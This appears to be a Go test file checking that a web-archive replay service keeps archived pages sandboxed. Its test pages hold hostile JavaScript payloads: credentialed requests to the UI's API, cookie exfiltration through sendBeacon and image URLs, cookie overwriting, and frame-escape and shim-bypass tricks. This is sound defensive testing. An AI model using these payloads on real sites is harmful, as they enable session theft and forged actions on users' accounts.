package replay_test

import (
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"varve/lab/attack"
	"varve/serve/replay/replaytest"
)

// screens stands for the UI: it hands out a session and counts what reaches it.
type screens struct {
	requests atomic.Int64
	withUser atomic.Int64
	addr     string
}

func newScreens(t *testing.T) *screens {
	t.Helper()
	s := &screens{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s.addr = l.Addr().String()
	srv := &http.Server{Handler: s}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return s
}

func (s *screens) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/favicon.ico" {
		return
	}
	s.requests.Add(1)
	if c, err := r.Cookie("varve"); err == nil && c.Value == "secret" {
		s.withUser.Add(1)
	}
	http.SetCookie(w, &http.Cookie{Name: "varve", Value: "secret", Path: "/", HttpOnly: true, SameSite: http.SameSiteStrictMode})
	w.Header().Set("Content-Type", "text/html")
	w.Write([]byte("<title>screens</title>"))
}

// attacks are scripts of a page that wants out. UI and LIVE stand for the two places it must not reach. Each is run
// twice: as the page's own, rewritten and under the shim; and with the browser's functions as they are, taken from
// an empty frame, as if the shim had missed them.
var attacks = []string{
	`fetch('UI/api/collections', {method: 'POST', credentials: 'include', mode: 'no-cors', body: 'x'}).catch(function(){})`,
	`var x = new XMLHttpRequest(); x.withCredentials = true; x.open('DELETE', 'UI/api/collections/n'); x.send()`,
	`new Image().src = 'UI/api/logout?' + document.cookie`,
	`navigator.sendBeacon('UI/api/x', document.cookie)`,
	`new WebSocket('UI/ws'.replace('http', 'ws'))`,
	`new EventSource('UI/api/events', {withCredentials: true})`,
	`var f = document.createElement('iframe'); f.src = 'UI/'; document.body.appendChild(f)`,
	`var f = document.createElement('form'); f.method = 'POST'; f.action = 'UI/api/crawls'; f.target = 'sink'; var s = document.createElement('iframe'); s.name = 'sink'; document.body.append(s, f); f.submit()`,
	`window.open('UI/api/x')`,
	`var a = document.createElement('a'); a.href = 'UI/'; a.target = '_blank'; document.body.append(a); a.click()`,
	`var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'LIVE/x.css'; document.head.append(l)`,
	`['prefetch','preload','prerender','preconnect','dns-prefetch','modulepreload'].forEach(function(r){ var l = document.createElement('link'); l.rel = r; l.as = 'script'; l.href = 'LIVE/' + r; document.head.append(l) })`,
	`document.body.insertAdjacentHTML('beforeend', '<img src="LIVE/a.png"><video src="LIVE/v.mp4"></video><object data="LIVE/o"></object><embed src="LIVE/e"><div style="background:url(LIVE/b.png)">x</div>')`,
	`document.body.style.backgroundImage = 'url(LIVE/c.png)'`,
	`new Worker(URL.createObjectURL(new Blob(['fetch("LIVE/w").catch(function(){});importScripts("LIVE/w.js")'])))`,
	`try { navigator.serviceWorker.register('/_varve/shim.js', {scope: '/'}) } catch (e) {}`,
	`try { var p = new RTCPeerConnection({iceServers: [{urls: 'stun:live.sim.test:3478'}]}); p.createDataChannel('x'); p.createOffer().then(function(o){ p.setLocalDescription(o) }) } catch (e) {}`,
	`import('LIVE/m.js').catch(function(){})`,
	`new FontFace('x', 'url(LIVE/f.woff)').load().catch(function(){})`,
	`new Audio('LIVE/a.mp3').play().catch(function(){})`,
	`document.cookie = 'varve=stolen; domain=127.0.0.1; path=/'; document.cookie = 'varve=stolen; path=/'`,
	`var s = document.createElement('script'); s.text = 'fetch("LIVE/text").catch(function(){})'; document.body.append(s)`,
	`setTimeout('location.assign', 1); eval('fetch("LIVE/eval").catch(function(){})')`,
	`var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=LIVE/refresh'; if (self !== window.parent) document.createElement('div').append(m)`,
}

// exits are the ways by which a page tries to leave its frame or take the top window; each needs a page of its own.
var exits = []string{
	`location.href = 'LIVE/exit'`,
	`window['loc' + 'ation'].replace('LIVE/exit')`,
	`window['to' + 'p'].location = 'LIVE/exit'`,
	`window['par' + 'ent']['loc' + 'ation'].href = 'LIVE/exit'`,
	`window['par' + 'ent']['op' + 'en']('LIVE/exit'); window['to' + 'p']['op' + 'en']('UI/api/x')`,
	`var a = document.createElement('a'); a.setAttribute('hr' + 'ef', 'LIVE/exit'); a.target = '_top'; document.body.append(a); a.click()`,
	`var f = document.createElement('form'); f.action = 'LIVE/exit'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)`,
	`document.body.innerHTML = '<meta http-equiv="refresh" content="0; url=LIVE/exit">'`,
	`var f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'LIVE/exit'`,
	`history.pushState(0, '', '/_varve/x'); window['loc' + 'ation'].assign('//' + 'live.sim.test/exit')`,
}

// pristine runs a script in an empty frame, whose functions nobody changed.
const pristine = `<script>onload = function () { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); var s = window[window.length - 1]; try { s.eval(CODE) } catch (e) {} }</script>`

func hostilePage(script string, raw bool, ui string) string {
	script = strings.ReplaceAll(strings.ReplaceAll(script, "UI", "http://"+ui), "LIVE", "http://live.sim.test")
	if !raw {
		return "<!doctype html><title>hostile</title><body><script>\n" + script + "\n</script><script>window.done = true</script>"
	}
	// The string is put together so that no rewriter sees code in it.
	quoted := `'` + strings.NewReplacer(`\`, `\\`, `'`, `\'`, "\n", `\n`).Replace(script) + `'`
	return "<!doctype html><title>hostile</title><body>" + strings.ReplaceAll(pristine, "CODE", quoted) + "<script>window.done = true</script>"
}

// A page that tries everything reaches nothing: neither the live web, nor the screens and their session.
func TestBrowserHostilePages(t *testing.T) {
	tally := attack.Count(t)
	tally.Try(2 * (len(attacks) + len(exits)))
	p := newRecorder(t)
	ctx := browser(t, p)
	ui := newScreens(t)
	p.allow(ui.addr, ui.addr)
	navigate(t, ctx, "http://"+ui.addr+"/") // the curator logs in
	before := ui.requests.Load()

	var pages []replaytest.Answer
	add := func(path, body string) {
		pages = append(pages, replaytest.Answer{URL: "http://evil.sim.test/" + path, Time: "2026-01-02T03:04:05Z", Header: htmlType, Body: body})
	}
	all := "(function(){" + strings.Join(attacks, "})();\n(function(){") + "})()"
	add("attacks", hostilePage(all, false, ui.addr))
	add("attacks-raw", hostilePage(all, true, ui.addr))
	for i, s := range exits {
		add("exit"+string(rune('a'+i)), hostilePage(s, false, ui.addr))
		add("exit-raw"+string(rune('a'+i)), hostilePage(s, true, ui.addr))
	}
	h, host, addr := serveReplay(t, replaytest.Write(t, pages...), "http://"+ui.addr)
	p.only(host, addr)
	p.allow(ui.addr, ui.addr) // reachable, so that a request would count
	for _, page := range pages {
		navigate(t, ctx, "http://"+host+"/n/20260102030405/"+page.URL)
		waitFor(t, ctx, "location.origin === 'http://"+host+"' && document.getElementById('page') && document.readyState === 'complete'")
	}
	navigate(t, ctx, "http://"+host+"/n/20260102030405/http://evil.sim.test/attacks")
	waitFor(t, ctx, "document.getElementById('bar')")
	if out := p.seen(host); out != nil {
		t.Errorf("%d requests left the replay host: %q", len(out), out)
	}
	if n := ui.requests.Load() - before; n != 0 {
		t.Errorf("%d requests reached the screens, %d with the session", n, ui.withUser.Load())
	}
	n, list := h.Leaks()
	t.Logf("%d attempts were stopped by the policy, %d kinds", n, len(list))
	if n == 0 {
		t.Error("nothing was reported: the pages did not try, or the reports were lost")
	}
	p.allow(ui.addr, ui.addr)
	navigate(t, ctx, "http://"+ui.addr+"/")
	if ui.withUser.Load() == 0 {
		t.Error("the session is gone")
	}
}
